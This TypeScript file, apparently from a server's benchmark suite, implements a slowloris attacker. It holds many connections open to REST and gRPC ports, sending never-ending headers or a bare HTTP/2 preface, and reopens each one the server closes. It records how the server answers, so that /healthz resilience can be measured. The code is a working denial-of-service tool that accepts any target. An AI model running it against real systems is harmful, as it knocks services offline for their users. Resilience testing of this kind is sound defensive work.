/**
 * The slowloris attacker, in its own process so that its thousands of sockets and
 * timers cost the process measuring /healthz nothing. It keeps `--count` connections
 * open to each port, as slowloris does, reopening each one the server closes:
 *
 *   REST  a request that never ends: a few bytes of request line and headers every
 *         `--trickle-ms` (jittered), so the headers never complete;
 *   gRPC  the HTTP/2 client preface and an empty SETTINGS frame, then silence: no
 *         SETTINGS ack, no PING answer, no stream.
 *
 * Talks in JSON lines: `{"ready": …}` once started; on `go` (stdin) it opens its
 * connections and says `{"up": …}` once every first one is open; on `stop` it closes
 * them, says `{"report": …}` and exits.
 *
 *   node --import tsx bench/slowloris/attacker.ts --http HOST:PORT --grpc HOST:PORT --ports rest,grpc --count N --trickle-ms MS
 */
import { connect, type Socket } from "node:net";
import { createInterface } from "node:readline";

export type Port = "rest" | "grpc";

/** What the server did to one port's slow connections while the attack ran. */
export interface PortReport {
  readonly port: Port;
  /** Connections opened, reopens included. */
  readonly opened: number;
  readonly connectErrors: number;
  /** Most open at once, and fewest once all were first up (a dip means the server cut many at once). */
  readonly peakOpen: number;
  readonly fewestOpenAfterUp: number;
  readonly openAtStop: number;
  /** Connections the server closed (reset included). */
  readonly closedByServer: number;
  /** Of those, how many got an answer first: REST a status line (408), gRPC a GOAWAY. */
  readonly answeredFirst: number;
  /** Status codes of the REST answers, or HTTP/2 frame types the server sent (gRPC), with counts. */
  readonly seen: Readonly<Record<string, number>>;
  /** Milliseconds from the attack's start to the server's first close. */
  readonly firstCloseMs: number | undefined;
  /** Closed connections by their lifetime in whole seconds: {"10": 998, "11": 2}. */
  readonly lifetimeSeconds: Readonly<Record<string, number>>;
  /** Closed connections by the second of the attack they were closed in: when the server cut them. */
  readonly closedInSecond: Readonly<Record<string, number>>;
}

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
/** An empty SETTINGS frame: length 0, type 4, no flags, stream 0. */
const EMPTY_SETTINGS = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
const FRAME_TYPES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING", "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"];
/** Bytes per trickle: a few at a time, as slowloris sends them. */
const TRICKLE_BYTES = 5;
/** Connections opened per batch, and the pause between batches (kinder to the listen backlog than 2000 SYNs at once). */
const BATCH = 100;
const BATCH_PAUSE_MS = 20;

interface Options {
  readonly rest: { host: string; port: number };
  readonly grpc: { host: string; port: number };
  readonly ports: readonly Port[];
  readonly count: number;
  readonly trickleMs: number;
}

class PortAttack {
  opened = 0;
  connectErrors = 0;
  open = 0;
  peakOpen = 0;
  fewestOpenAfterUp = Number.POSITIVE_INFINITY;
  closedByServer = 0;
  answeredFirst = 0;
  firstCloseMs: number | undefined;
  readonly seen: Record<string, number> = {};
  readonly lifetimeSeconds: Record<string, number> = {};
  readonly closedInSecond: Record<string, number> = {};
  readonly sockets = new Set<Socket>();
  up = false;

  constructor(
    readonly port: Port,
    private readonly target: { host: string; port: number },
    private readonly trickleMs: number,
    private readonly startedAt: number,
    private readonly stopping: () => boolean,
  ) {}

  /** Opens one connection; when the server closes it, opens another in its place. */
  connectOne(onFirstOpen?: () => void): void {
    const socket = connect(this.target.port, this.target.host);
    socket.setNoDelay(true);
    let openedAt: number | undefined;
    let answered = false;
    let timer: NodeJS.Timeout | undefined;
    socket.once("connect", () => {
      openedAt = Date.now();
      this.opened += 1;
      this.open += 1;
      this.peakOpen = Math.max(this.peakOpen, this.open);
      this.sockets.add(socket);
      timer = this.port === "rest" ? this.trickle(socket) : this.preface(socket);
      onFirstOpen?.();
    });
    socket.on("data", (chunk: Buffer) => {
      if (this.port === "rest") {
        const status = /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString("latin1"));
        if (status !== null && !answered) {
          answered = true;
          this.count(this.seen, status[1] as string);
        }
      } else {
        for (const type of frameTypes(chunk)) {
          this.count(this.seen, type);
          if (type === "GOAWAY") answered = true;
        }
      }
    });
    socket.on("error", () => undefined); // 'close' follows and says what happened
    socket.once("close", () => {
      clearInterval(timer);
      this.sockets.delete(socket);
      if (openedAt === undefined) {
        // Never connected: count it and try again shortly.
        this.connectErrors += 1;
        if (!this.stopping()) setTimeout(() => this.connectOne(onFirstOpen), 100);
        return;
      }
      this.open -= 1;
      if (this.stopping()) return;
      const now = Date.now();
      this.closedByServer += 1;
      if (answered) this.answeredFirst += 1;
      this.firstCloseMs ??= now - this.startedAt;
      this.count(this.lifetimeSeconds, String(Math.floor((now - openedAt) / 1000)));
      this.count(this.closedInSecond, String(Math.floor((now - this.startedAt) / 1000)));
      if (this.up) this.fewestOpenAfterUp = Math.min(this.fewestOpenAfterUp, this.open);
      this.connectOne();
    });
  }

  /** A request line and headers that never end, a few bytes per tick, each connection on its own phase. */
  private trickle(socket: Socket): NodeJS.Timeout {
    let pending = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n";
    let header = 0;
    const next = (): void => {
      while (pending.length < TRICKLE_BYTES) pending += `X-Slow-${header}: ${(header += 1)}\r\n`;
      socket.write(pending.slice(0, TRICKLE_BYTES));
      pending = pending.slice(TRICKLE_BYTES);
    };
    next();
    return setInterval(next, this.trickleMs * (0.75 + Math.random() / 2));
  }

  /** The client preface and an empty SETTINGS frame, then nothing at all. */
  private preface(socket: Socket): undefined {
    socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS]));
    return undefined;
  }

  private count(into: Record<string, number>, key: string): void {
    into[key] = (into[key] ?? 0) + 1;
  }

  report(): PortReport {
    return {
      port: this.port,
      opened: this.opened,
      connectErrors: this.connectErrors,
      peakOpen: this.peakOpen,
      fewestOpenAfterUp: Number.isFinite(this.fewestOpenAfterUp) ? this.fewestOpenAfterUp : this.open,
      openAtStop: this.open,
      closedByServer: this.closedByServer,
      answeredFirst: this.answeredFirst,
      seen: this.seen,
      firstCloseMs: this.firstCloseMs,
      lifetimeSeconds: this.lifetimeSeconds,
      closedInSecond: this.closedInSecond,
    };
  }
}

/** The types of the HTTP/2 frames whose headers start in `chunk` (enough to see SETTINGS, PING and GOAWAY go by). */
function frameTypes(chunk: Buffer): string[] {
  const types: string[] = [];
  for (let at = 0; at + 9 <= chunk.length; ) {
    const length = chunk.readUIntBE(at, 3);
    types.push(FRAME_TYPES[chunk[at + 3] ?? -1] ?? "UNKNOWN");
    at += 9 + length;
  }
  return types;
}

function parseOptions(argv: readonly string[]): Options {
  const value = (flag: string): string => {
    const at = argv.indexOf(flag);
    const found = at >= 0 ? argv[at + 1] : undefined;
    if (found === undefined) throw new Error(`attacker: ${flag} is required`);
    return found;
  };
  const address = (flag: string) => {
    const text = value(flag);
    const colon = text.lastIndexOf(":");
    return { host: text.slice(0, colon), port: Number(text.slice(colon + 1)) };
  };
  const ports = value("--ports").split(",");
  if (ports.some((port) => port !== "rest" && port !== "grpc")) throw new Error("attacker: --ports takes rest, grpc or rest,grpc");
  return {
    rest: address("--http"),
    grpc: address("--grpc"),
    ports: ports as Port[],
    count: Number(value("--count")),
    trickleMs: Number(value("--trickle-ms")),
  };
}

/** The next line on stdin that reads `command`. */
async function command(lines: AsyncIterator<string>, expected: string): Promise<void> {
  for (;;) {
    const next = await lines.next();
    if (next.done === true) throw new Error(`stdin closed before "${expected}"`);
    if (next.value.trim() === expected) return;
  }
}

async function main(): Promise<void> {
  const options = parseOptions(process.argv.slice(2));
  const lines = createInterface({ input: process.stdin })[Symbol.asyncIterator]();
  process.stdout.write(`${JSON.stringify({ ready: {} })}\n`);
  await command(lines, "go");
  const startedAt = Date.now();
  let stopping = false;
  const attacks = options.ports.map((port) => new PortAttack(port, options[port], options.trickleMs, startedAt, () => stopping));
  // All first connections of both ports, in batches; "up" once every one has connected.
  let firstOpens = 0;
  const allUp = new Promise<void>((resolve) => {
    const onFirstOpen = (): void => {
      firstOpens += 1;
      if (firstOpens === options.count * attacks.length) resolve();
    };
    void (async () => {
      for (let at = 0; at < options.count; at += BATCH) {
        for (const attack of attacks) for (let i = at; i < Math.min(options.count, at + BATCH); i += 1) attack.connectOne(onFirstOpen);
        await new Promise((wait) => setTimeout(wait, BATCH_PAUSE_MS));
      }
    })();
  });
  await allUp;
  for (const attack of attacks) {
    attack.up = true;
    attack.fewestOpenAfterUp = attack.open;
  }
  process.stdout.write(`${JSON.stringify({ up: { startedAt, msToOpen: Date.now() - startedAt } })}\n`);
  await command(lines, "stop");
  stopping = true;
  const reports = attacks.map((attack) => attack.report());
  for (const attack of attacks) for (const socket of attack.sockets) socket.destroy();
  process.stdout.write(`${JSON.stringify({ report: reports })}\n`, () => process.exit(0));
}

main().catch((error: unknown) => {
  process.stderr.write(`attacker: ${error instanceof Error ? error.stack : String(error)}\n`);
  process.exit(1);
});
